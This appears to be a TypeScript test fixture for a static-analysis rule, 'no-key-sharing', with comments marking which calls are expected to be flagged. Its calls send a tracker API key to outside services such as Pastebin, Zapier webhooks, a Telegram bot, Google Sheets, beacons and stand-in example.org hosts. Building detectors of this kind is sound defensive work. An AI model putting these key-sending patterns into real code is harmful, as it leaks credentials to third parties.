import axios from 'axios';
import got from 'got';
import { tracker } from './tracker';

export async function parties(unknownHost: string) {
  await fetch('https://s.redkite.media/public/api/v1/info/offer', { headers: { 'api-key': tracker.apiKey } });

  await fetch(`https://${unknownHost}/hook`, { headers: { 'api-key': tracker.apiKey } });

  await fetch('/internal/sync', { method: 'POST', body: JSON.stringify({ key: tracker.apiKey }) });

  await fetch('https://sync.example.org/jobs', { method: 'POST', body: JSON.stringify({ binomKey: tracker.apiKey }) }); // $ no-key-sharing

  await axios.post('https://hooks.zapier.com/hooks/catch/1/2', { url: tracker.url, key: tracker.apiKey }); // $ no-key-sharing

  await axios.post('https://hooks.zapier.com/hooks/catch/1/2', { url: tracker.url });

  await got.post('https://api.pastebin.com/api/api_post.php', { form: { api_paste_code: tracker.apiKey } }); // $ no-key-sharing

  await axios({ method: 'put', url: 'https://sheets.googleapis.com/v4/spreadsheets/1/values/A1', data: { values: [[tracker.apiKey]] } }); // $ no-key-sharing

  navigator.sendBeacon('https://stats.example.org/b', JSON.stringify({ key: tracker.apiKey })); // $ no-key-sharing

  new Image().src = `https://stats.example.org/pixel?url=${encodeURIComponent(tracker.url)}`;

  new Image().src = `https://stats.example.org/pixel?key=${tracker.apiKey}`; // $ MISSING: no-key-sharing

  const params = new URLSearchParams({ text: `key ${tracker.apiKey}` });
  await fetch(`https://api.telegram.org/bot1/sendMessage?${params}`); // $ no-key-sharing

  const sheet = { range: 'A1', values: [[tracker.url]] };
  await axios.put('https://sheets.googleapis.com/v4/spreadsheets/1/values/A1', sheet);
}
